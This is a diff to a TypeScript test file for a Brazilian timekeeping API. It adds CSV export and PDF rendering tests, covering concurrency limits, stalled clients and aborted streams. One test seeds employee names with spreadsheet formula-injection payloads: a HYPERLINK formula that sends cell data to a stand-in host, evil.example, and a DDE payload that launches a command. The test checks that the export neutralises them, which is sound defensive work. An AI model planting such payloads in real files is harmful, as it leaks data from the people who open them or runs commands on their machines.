@@ -1,4 +1,5 @@
 import { createHash } from 'node:crypto';
+import net from 'node:net';
 import { DateTime } from 'luxon';
 import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { parseAej } from '../../src/legal/aej.js';
@@ -94,6 +95,31 @@ async function knownWeek(options: { name?: string; at?: (local: string) => void 
 }
 
 const get = (key: string, url: string) => t.request({ method: 'GET', url, key });
+
+/** The cells of an RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted) {
+      if (char !== '"') cell += char;
+      else if (text[i + 1] === '"') cell += text[++i];
+      else quoted = false;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (char === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+    } else cell += char;
+  }
+  return rows;
+}
 
 describe('GET /v1/reports/period', () => {
   it('200 gives the exact minutes of the known week', async () => {
@@ -258,6 +284,32 @@ describe('GET /v1/reports/period', () => {
       `${office.id},Ana Conceição,52998224725,2026-11-20,fri,,08:12E 12:00S 13:00E 17:00S,0,468,0,0,0,0,60,,468,holiday,Dia Nacional de Zumbi e da Consciência Negra`,
     );
     expect(lines[6]).toBe(`${office.id},Ana Conceição,52998224725,TOTAL,,,,1920,2505,0,120,0,0,303,,468,,`);
+  });
+
+  it('CSV: a text cell a spreadsheet would evaluate starts with a quote; numbers stay numbers', async () => {
+    const tenant = await t.seedTenant();
+    const { key } = await tenant.key();
+    const names = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Clique")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,1)',
+      // Names are trimmed on the way in, so a leading tab or line break cannot reach the file (test/unit/csv).
+      ' \t=1+1',
+    ];
+    for (const name of names) await t.hire(key, { name, schedule: { mon: OFFICE } });
+    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-17&format=csv');
+    expect(response.statusCode).toBe(200);
+    const [header, ...rows] = parseCsv(response.body);
+    expect(header![0]).toBe('employee_id');
+    expect(rows).toHaveLength(names.length * 3);
+    expect(new Set(rows.map((row) => row[1]))).toEqual(new Set(names.map((name) => `'${name.trim()}`)));
+    for (const cell of rows.flat()) {
+      // Only a number may start with a sign: the minutes columns, written as numbers.
+      if (/^[=+\-@\t\r\n]/.test(cell)) expect(cell).toMatch(/^-\d+$/);
+    }
+    const total = rows.find((row) => row[3] === 'TOTAL')!;
+    expect(total.slice(7, 14)).toEqual(['480', '0', '0', '0', '0', '480', '0']);
   });
 
   it('400 for a reversed range, a range over 366 days and bad dates; 404 for another tenant’s employee', async () => {
@@ -457,6 +509,143 @@ describe('GET /v1/reports/period?format=pdf', () => {
     expect(pdf.subarray(-6).toString()).toContain('%%EOF');
     // Two employees, each from a new page.
     expect(pdf.toString('latin1').match(/\/Type \/Page\b/g)).toHaveLength(2);
+  });
+});
+
+describe('PDF rendering: off the event loop, bounded, streamed', () => {
+  // One slot: a second report waits in line, a third is refused. Also on a real socket, at `address`.
+  let bounded: TestApp;
+  let address: URL;
+  beforeAll(async () => {
+    bounded = await createTestApp(
+      {
+        PONTUAL_RATE_LIMIT_PER_MINUTE: '100000',
+        PONTUAL_REPORT_CONCURRENCY: '1',
+        PONTUAL_REPORT_STALL_SECONDS: '1',
+      },
+      t.storage,
+    );
+    address = new URL(await bounded.app.listen({ port: 0, host: '127.0.0.1' }));
+  });
+  afterAll(() => bounded.close());
+
+  /** A tenant with `employees` on office hours, marks every day of November 2026; its key. */
+  async function bigTenant(app: TestApp, employees: number) {
+    const tenant = await app.seedTenant({ timezone: 'America/Sao_Paulo' });
+    const { key } = await tenant.key();
+    const scope = { tenantId: tenant.tenantId, environment: 'live' as const };
+    await seedMonth(app.app.deps.database.db, scope, employees, '2026-11', () => nextCpf());
+    return key;
+  }
+  /** A year's espelho: one line per employee and day, most of them absences. */
+  const YEAR = '/v1/reports/period?from=2025-12-01&to=2026-11-30&format=pdf';
+  /** A PDF that a reader opens: its cross-reference table where the trailer says, every page in its page tree. */
+  const expectWholePdf = (pdf: Buffer, employees: number) => {
+    const text = pdf.toString('latin1');
+    expect(text.slice(0, 5)).toBe('%PDF-');
+    const xref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
+    expect(text.slice(xref, xref + 4)).toBe('xref');
+    const pages = text.match(/\/Type \/Page\b/g)?.length ?? 0;
+    expect(text).toMatch(new RegExp(`/Count ${pages}\\b`));
+    // Each employee's year takes several pages.
+    expect(pages).toBeGreaterThan(employees * 3);
+  };
+
+  it('/healthz answers within a second while big PDFs render', async () => {
+    const key = await bigTenant(t, 50);
+    await t.app.ready(); // route schemas compile at ready, which the first request otherwise waits for
+    let rendering = true;
+    const pdfs = Promise.all(Array.from({ length: 4 }, () => get(key, YEAR))).finally(() => {
+      rendering = false;
+    });
+    // A probe every 50 ms, each timed from when it was due: a blocked event loop delays the probe's timer too.
+    const latencies: number[] = [];
+    while (rendering) {
+      const due = performance.now() + 50;
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      expect((await t.request({ method: 'GET', url: '/healthz' })).statusCode).toBe(200);
+      latencies.push(performance.now() - due);
+    }
+    for (const response of await pdfs) {
+      expect(response.statusCode).toBe(200);
+      expectWholePdf(response.rawPayload, 50);
+    }
+    expect(Math.max(...latencies)).toBeLessThan(1000);
+    expect(latencies.length).toBeGreaterThan(5);
+  }, 120_000);
+
+  it('beyond the bound and its line, a report is 503 with Retry-After; those let in are whole', async () => {
+    const key = await bigTenant(bounded, 30);
+    const running = bounded.request({ method: 'GET', url: YEAR, key });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    const waiting = bounded.request({ method: 'GET', url: YEAR, key });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    // The same bound holds every report: a PDF, a CSV, a legal file.
+    for (const url of [YEAR, YEAR.replace('pdf', 'csv'), '/v1/reports/afd?from=2026-11-01&to=2026-11-30']) {
+      const refused = await bounded.request({ method: 'GET', url, key });
+      expect(refused.statusCode, url).toBe(503);
+      expect(problem(refused).code).toBe('service_unavailable');
+      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
+    }
+    for (const response of [await running, await waiting]) {
+      expect(response.statusCode).toBe(200);
+      expectWholePdf(response.rawPayload, 30);
+    }
+    // The slot came back: the next one is served.
+    expect((await bounded.request({ method: 'GET', url: YEAR, key })).statusCode).toBe(200);
+  }, 120_000);
+
+  it('a client that stops reading is dropped, and its slot goes to the next in line', async () => {
+    const key = await bigTenant(bounded, 100);
+    // Asks for a year's JSON (about 11 MB) and reads nothing: the download stops once the socket buffers
+    // (about 4 MB here) are full.
+    const stalled = net.connect(Number(address.port), address.hostname);
+    stalled.pause();
+    stalled.write(
+      `GET ${YEAR.replace('pdf', 'json')} HTTP/1.1\r\nHost: ${address.host}\r\nx-api-key: ${key}\r\n\r\n`,
+    );
+    try {
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      // Waits in line behind it, and gets its slot once it has taken nothing for a second.
+      const started = performance.now();
+      const next = await bounded.request({ method: 'GET', url: YEAR.replace('pdf', 'csv'), key });
+      expect(next.statusCode).toBe(200);
+      expect(performance.now() - started).toBeLessThan(8000);
+    } finally {
+      stalled.destroy();
+    }
+  }, 60_000);
+
+  it('a rendering that fails part-way aborts the connection: never a short file that ends cleanly', async () => {
+    const tenant = await bounded.seedTenant();
+    const { key } = await tenant.key();
+    const scope = { tenantId: tenant.tenantId, environment: 'live' as const };
+    const { db } = bounded.app.deps.database;
+    await seedMonth(db, scope, 30, '2026-11', () => nextCpf());
+    // The last employee's stored schedule is unreadable: the report fails after the first batch of employees.
+    const employees = await db
+      .selectFrom('employees')
+      .select('id')
+      .where('tenantId', '=', tenant.tenantId)
+      .orderBy('id')
+      .execute();
+    const [first, last] = [employees[0]!, employees.at(-1)!];
+    await db.updateTable('employees').set({ schedule: '{not json' }).where('id', '=', last.id).execute();
+    const response = await fetch(
+      `${address.origin}/v1/reports/period?from=2026-11-01&to=2026-11-30&format=pdf`,
+      {
+        headers: { 'x-api-key': key },
+      },
+    );
+    expect(response.status).toBe(200);
+    await expect(response.arrayBuffer()).rejects.toThrow();
+    // The failed rendering gave its slot back.
+    const next = await bounded.request({
+      method: 'GET',
+      url: `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${first.id}&format=pdf`,
+      key,
+    });
+    expect(next.statusCode).toBe(200);
   });
 });
 
